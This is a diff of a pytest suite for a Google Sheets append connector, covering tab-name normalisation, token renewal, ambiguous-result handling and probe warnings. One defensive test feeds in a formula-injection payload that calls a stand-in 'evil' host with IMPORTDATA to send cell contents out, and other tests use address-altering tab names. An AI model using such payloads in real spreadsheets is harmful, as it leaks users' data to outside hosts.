@@ -42,12 +42,16 @@ class TestRows:
         assert (receipt.status, receipt.updated, receipt.id) == ("appended", 2, None)
         assert receipt.link == f"https://docs.google.com/spreadsheets/d/{SPREADSHEET}/edit"
         assert receipt.note == "They are at 'Q3 plan'!A1:C2."
-        assert calls(sandbox) == ["token", "values.append"]
+        assert calls(sandbox) == ["token", "spreadsheets.get", "values.append"]
         assert append.query == APPEND
         assert append.json == {
             "majorDimension": "ROWS",
             "values": [["Ada", 42, "007"], ["Bob", 1.5, None]],
         }
+
+    def test_without_a_range_are_appended_with_one_call(self, sheets, sandbox):
+        assert sheets.send(values=ROWS).note == "They are at Sheet1!A1:B1."
+        assert calls(sandbox) == ["token", "values.append"]
 
     def test_go_below_those_that_are_there(self, sheets, sandbox):
         sheets.send(range="Sheet1!A1", values=ROWS)
@@ -55,16 +59,16 @@ class TestRows:
         assert sheets.send(range="Sheet1!A1", values=ROWS).note == "They are at Sheet1!A2:B2."
 
     def test_the_token_is_used_again(self, sheets, sandbox):
-        sheets.send(range="A1", values=ROWS)
-        sheets.send(range="A1", values=ROWS)
+        sheets.send(values=ROWS)
+        sheets.send(values=ROWS)
 
         assert calls(sandbox) == ["token", "values.append", "values.append"]
 
     def test_a_token_that_ended_is_renewed_once(self, sheets, sandbox):
-        sheets.send(range="A1", values=ROWS)
+        sheets.send(values=ROWS)
         sandbox.sheets.tokens.revoke()
 
-        assert sheets.send(range="A1", values=ROWS).updated == 1
+        assert sheets.send(values=ROWS).updated == 1
         assert calls(sandbox)[2:] == ["values.append", "token", "values.append"]
         assert len(sandbox.sheets.writes) == 2
 
@@ -79,6 +83,10 @@ class TestRows:
             ("CRM26!A1", "'CRM26'!A1"),
             ("'CRM26'", "'CRM26'"),
             ("Übersicht!b2", "'Übersicht'!B2"),
+            ("u\u0308BERSICHT!B2", "'Übersicht'!B2"),
+            ("q3  PLAN", "'Q3 plan'"),
+            ("' Q3 plan '!A1", "'Q3 plan'!A1"),
+            ("sheet1", "'Sheet1'"),
         ],
     )
     def test_reach_the_tab_that_was_meant(self, sheets, sandbox, given, asked):
@@ -89,6 +97,9 @@ class TestRows:
 
     @pytest.mark.parametrize("tab", ["a/b", "a?b", "a#b", "50%", "a:append", "..", "a&b=c"])
     def test_a_tab_s_name_cannot_change_the_address(self, sheets, sandbox, tab):
+        titles = [{"properties": {"title": tab}}]
+        sandbox.sheets.next(Answer(200, json={"sheets": titles}), on="spreadsheets.get")
+
         error = sheets.failing(range=f"'{tab}'!A1", values=ROWS)
 
         assert error.reason == "no_such_range"
@@ -97,7 +108,7 @@ class TestRows:
         assert appended.query == APPEND
 
     def test_formulas_stay_text(self, sheets, sandbox):
-        sheets.send(range="A1", values=[['=IMPORTDATA("https://evil/?"&B2)', "+1", "@x", "-2+3"]])
+        sheets.send(values=[['=IMPORTDATA("https://evil/?"&B2)', "+1", "@x", "-2+3"]])
 
         assert sandbox.sheets.rows["Sheet1"] == [
             ['=IMPORTDATA("https://evil/?"&B2)', "+1", "@x", "-2+3"]
@@ -105,13 +116,13 @@ class TestRows:
 
     @pytest.mark.parametrize("text", ["42", "3.10", "10.0", "007", "1e3", "true"])
     def test_a_text_is_not_made_a_number(self, sheets, sandbox, text):
-        receipt = sheets.send(range="A1", values=[[text]])
+        receipt = sheets.send(values=[[text]])
 
         assert sandbox.sheets.rows["Sheet1"] == [[text]]
         assert receipt.note == "They are at Sheet1!A1."
 
     def test_a_number_that_loses_typed_digits_is_said_to(self, sheets, sandbox):
-        receipt = sheets.send(range="A1", values=rows('3.10,2.5\n10.0,"3.10"'))
+        receipt = sheets.send(values=rows('3.10,2.5\n10.0,"3.10"'))
 
         assert sandbox.sheets.writes[0].json["values"] == [[3.1, 2.5], [10.0, "3.10"]]
         assert receipt.note == (
@@ -157,7 +168,7 @@ class TestRows:
         golden = json.loads((specs / "golden/google.service_account_token.json").read_text())
         theirs = golden["requests"][0]
 
-        sheets.send(range="A1", values=ROWS)
+        sheets.send(values=ROWS)
 
         [asked] = sandbox.sheets.calls("token")
         assert asked.form["grant_type"] == theirs["body_form"]["grant_type"]
@@ -165,7 +176,7 @@ class TestRows:
         assert asked.headers["content-type"] == theirs["headers"]["content-type"]
 
     def test_fit_google_s_own_description(self, sheets, sandbox, specs):
-        sheets.send(range="A1", values=[["x", 1, 2.5, True, None]])
+        sheets.send(values=[["x", 1, 2.5, True, None]])
         sheets.probe()
 
         description = specs / "sheets.v4.openapi.json"
@@ -181,7 +192,7 @@ class TestInDoubt:
     def test_a_connection_lost_after_the_rows_were_written_is_unknown(self, sheets, sandbox):
         sandbox.sheets.next(DropAfter(), on="values.append")
 
-        error = sheets.failing(range="A1", values=ROWS)
+        error = sheets.failing(values=ROWS)
 
         assert (error.outcome, len(sandbox.sheets.writes)) == ("unknown", 1)
         assert len(sandbox.sheets.calls("values.append")) == 1
@@ -191,7 +202,7 @@ class TestInDoubt:
         sandbox.sheets.next(fault, on="values.append")
 
         with Direct(CONNECTOR, sandbox, attempt_seconds=0.5) as sheets:
-            error = sheets.failing(range="A1", values=ROWS)
+            error = sheets.failing(values=ROWS)
 
         assert (error.outcome, len(sandbox.sheets.writes)) == ("unknown", 1)
         assert len(sandbox.sheets.calls("values.append")) == 1
@@ -200,7 +211,7 @@ class TestInDoubt:
         sandbox.sheets.always(Hang(), on="token")
 
         with Direct(CONNECTOR, sandbox, attempt_seconds=0.2) as sheets:
-            error = sheets.failing(range="A1", values=ROWS)
+            error = sheets.failing(values=ROWS)
 
         assert error.outcome == "not_sent"
         assert [request.call for request in sandbox.sheets.received] == ["token"] * 3
@@ -208,16 +219,16 @@ class TestInDoubt:
     def test_a_connection_lost_over_the_token_is_tried_again(self, sheets, sandbox):
         sandbox.sheets.next(DropAfter(), on="token")
 
-        assert sheets.send(range="A1", values=ROWS).updated == 1
+        assert sheets.send(values=ROWS).updated == 1
         assert (sheets.attempts, len(sandbox.sheets.writes)) == (2, 1)
 
     def test_a_token_that_cannot_be_renewed_means_nothing_was_written(self, sheets, sandbox):
         sandbox.sheets.next(UNAUTHENTICATED, on="values.append")
-        sheets.send(range="A1", values=ROWS)
+        sheets.send(values=ROWS)
         sandbox.sheets.next(UNAUTHENTICATED, on="values.append")
         sandbox.sheets.next(DropBefore(), on="token")
 
-        assert sheets.send(range="A1", values=ROWS).updated == 1
+        assert sheets.send(values=ROWS).updated == 1
         assert len(sandbox.sheets.writes) == 2
 
     @pytest.mark.parametrize(
@@ -228,7 +239,7 @@ class TestInDoubt:
     def test_a_success_that_names_no_rows_is_unknown(self, sheets, sandbox, answer):
         sandbox.sheets.next(answer, on="values.append")
 
-        error = sheets.failing(range="A1", values=ROWS)
+        error = sheets.failing(values=ROWS)
 
         assert (error.outcome, error.reason) == ("unknown", "unexpected_answer")
         assert len(sandbox.sheets.calls("values.append")) == 1
@@ -244,6 +255,18 @@ class TestProbe:
         assert calls(sandbox) == ["token", "spreadsheets.get"]
         assert sandbox.sheets.writes == []
 
+    def test_warns_of_a_default_that_means_two_things(self, sandbox):
+        found = probe(CONNECTOR, sandbox, SHEETS_RANGE_DEFAULT="crm26")
+
+        assert found.attention
+        assert found.notes[0] == (
+            "SHEETS_RANGE_DEFAULT could be the tab 'CRM26' or CRM26 in the first tab."
+        )
+        assert found.fix == (
+            "In SHEETS_RANGE_DEFAULT, write \"'CRM26'\" for the tab, or \"'Sheet1'!CRM26\" for the"
+            " other."
+        )
+
     def test_warns_of_a_default_tab_that_is_not_there(self, sandbox):
         found = probe(CONNECTOR, sandbox, SHEETS_RANGE_DEFAULT="Q4 plan!A1")
 
@@ -253,7 +276,7 @@ class TestProbe:
             "Set SHEETS_RANGE_DEFAULT to one of the tabs: Sheet1, Q3 plan, Jon's, CRM26, Übersicht."
         )
 
-    @pytest.mark.parametrize("place", ["Jon's!A1", "'CRM26'", "B2"])
+    @pytest.mark.parametrize("place", ["Jon's!A1", "'CRM26'", "B2", "q3 plan", "Sheet1!CRM26"])
     def test_a_default_tab_that_is_there_needs_no_attention(self, sandbox, place):
         assert not probe(CONNECTOR, sandbox, SHEETS_RANGE_DEFAULT=place).attention
 
@@ -270,7 +293,7 @@ def test_nothing_of_the_key_is_in_what_is_said(sheets, sandbox):
     config = configured(CONNECTOR, sandbox)
     secret = json.loads(config.key_file.get_secret_value())["private_key"]
 
-    error = sheets.failing(range="A1", values=ROWS)
+    error = sheets.failing(values=ROWS)
 
     assert isinstance(error, UpstreamError)
     body = [line for line in secret.splitlines() if "-----" not in line]
